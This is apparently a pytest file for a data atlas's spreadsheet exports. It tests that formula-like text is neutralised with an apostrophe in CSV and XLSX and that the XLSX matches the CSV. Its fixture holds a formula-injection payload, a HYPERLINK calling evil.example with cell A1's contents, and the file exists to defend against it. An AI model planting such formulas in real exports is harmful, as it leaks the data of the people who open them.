"""Spreadsheet exports: formula-like text neutralised in CSV and XLSX; the XLSX equals the CSV."""
from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from streamlit.testing.v1 import AppTest

from atlas.cli import main
from atlas.views.export import CSV_COLUMNS, XLSX_COLUMNS, csv_text, xlsx_bytes
from atlas.core.models import Evidence, Fact, Source
from atlas.views.query import Filters, load_frame
from atlas.db.store import Store
from tests.dash_data import ARTICLE, fill_store, sample_facts
from ui.views import download_contents

ROOT = Path(__file__).resolve().parents[1]
STARTS = ["=", "+", "-", "@", "\t", "\r"]


def hostile(start: str) -> Fact:
    text = f"{start}HYPERLINK(\"http://evil.example/?\"&A1, \"Open\")"
    return Fact(id="hostile", type="finance", title=text, summary=text, date_start=date(2023, 5, 1),
                date_precision="day", origin="curated", countries=("KAZ",), actors=("CHN",),
                geometry={"type": "Point", "coordinates": [71.4, 51.1]}, geo_precision="city",
                evidence=(Evidence(ARTICLE.id, 0, 5, text),),
                sources=(Source(publisher=text, title=text, date="2023", url="https://example.org/a"),))


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def xlsx_rows(data: bytes) -> list[dict]:
    ws = load_workbook(io.BytesIO(data), read_only=True)["facts"]
    rows = [list(r) for r in ws.iter_rows(values_only=True)]
    # a read-only sheet may leave out a row's trailing empty cells: pad to the header
    return [dict(zip(rows[0], r + [None] * (len(rows[0]) - len(r)))) for r in rows[1:]]


@pytest.mark.parametrize("start", STARTS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_text_a_spreadsheet_could_run_is_neutralised_in_csv_and_xlsx(start):
    fact = hostile(start)
    articles = {ARTICLE.id: {"id": ARTICLE.id, "title": fact.title, "url": "https://example.org/a",
                             "publisher": fact.title}}
    [row] = csv_rows(csv_text([fact], articles))
    [cells] = xlsx_rows(xlsx_bytes([fact], articles))
    for column in ("title", "summary", "evidence_quote", "article_title", "source_titles", "sources"):
        assert row[column] == "'" + (fact.title if column != "sources" else f"{fact.title}: {fact.title} (2023)")
        assert cells[column] == row[column]


def dataset_fact() -> Fact:
    return Fact(id="aiddata-1", type="finance", title="Loan for a power plant", date_start=date(2019, 1, 1),
                date_precision="year", origin="dataset", countries=("UZB",), actors=("CHN",),
                geometry={"type": "Point", "coordinates": [69.2, 41.3]}, geo_precision="city",
                dataset="aiddata", dataset_record="1", amount=457.7e6, currency="USD (constant 2021)",
                sector="ENERGY", finance_group="1")


def same_cell(csv_value: str, xlsx_value) -> bool:
    if xlsx_value is None:
        return csv_value == ""
    if isinstance(xlsx_value, bool):
        return csv_value == str(xlsx_value)
    if isinstance(xlsx_value, (int, float)):
        return float(csv_value) == float(xlsx_value)
    return csv_value == xlsx_value


def test_the_xlsx_export_equals_the_csv_cell_for_cell(mem_store):
    facts = sample_facts() + [dataset_fact(), hostile("=")]
    articles = {ARTICLE.id: {"id": ARTICLE.id, "title": ARTICLE.title, "url": ARTICLE.url,
                             "publisher": ARTICLE.publisher}}
    rows, cells = csv_rows(csv_text(facts, articles)), xlsx_rows(xlsx_bytes(facts, articles))
    assert len(rows) == len(cells) == len(facts)
    assert list(cells[0]) == XLSX_COLUMNS == CSV_COLUMNS + ["amount_display"]
    for row, xrow in zip(rows, cells):
        for column in CSV_COLUMNS:
            assert same_cell(row[column], xrow[column]), (row["id"], column, row[column], xrow[column])
    loan = next(x for x in cells if x["id"] == "aiddata-1")
    assert loan["amount"] == 457.7e6 and isinstance(loan["amount"], (int, float))  # a number, not text
    assert loan["amount_display"] == "$457.7 m"
    assert isinstance(loan["lon"], float) and loan["withdrawn"] is False


def test_export_command_writes_xlsx(tmp_path, capsys):
    db = tmp_path / "atlas.sqlite"
    store = Store(str(db))
    fill_store(store)
    store.dispose()
    out = tmp_path / "uzb.xlsx"
    assert main(["--db", str(db), "export", "--format", "xlsx", "--country", "UZB", "-o", str(out)]) == 0
    assert "fact(s) to" in capsys.readouterr().err
    assert main(["--db", str(db), "export", "--format", "csv", "--country", "UZB"]) == 0
    rows = csv_rows(capsys.readouterr().out)
    cells = xlsx_rows(out.read_bytes())
    assert [x["id"] for x in cells] == [r["id"] for r in rows] and rows


def test_the_data_page_offers_xlsx_beside_csv_and_geojson(tmp_path, monkeypatch):
    db = tmp_path / "atlas.sqlite"
    store = Store(str(db))
    fill_store(store)
    store.dispose()
    monkeypatch.setenv("ATLAS_DB", str(db))
    at = AppTest.from_file(str(ROOT / "pages/3_Data.py"), default_timeout=30)
    at.query_params["country"] = "UZB"
    at.run()
    assert not at.exception
    keys = [b.proto.id for b in at.get("download_button")]
    assert [k for k in ("dl_csv", "dl_geojson", "dl_xlsx") if any(k in key for key in keys)] == \
        ["dl_csv", "dl_geojson", "dl_xlsx"]
    store = Store(str(db))
    f, frame = Filters(countries=("UZB",)), load_frame(store)
    cells = xlsx_rows(download_contents(store, f, frame, "xlsx")())
    rows = csv_rows(download_contents(store, f, frame, "csv")())
    assert [x["id"] for x in cells] == [r["id"] for r in rows] and rows


from hypothesis import given  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from atlas.views.export import FORMULA_STARTS, spreadsheet_cell  # noqa: E402


@given(st.text(max_size=40))
def test_no_cell_starts_a_formula(text):
    cell = spreadsheet_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    kept = "".join(c for c in text if c in "\t\n\r" or ord(c) >= 32)
    assert cell in (kept, "'" + kept)  # the text itself, at most one apostrophe in front
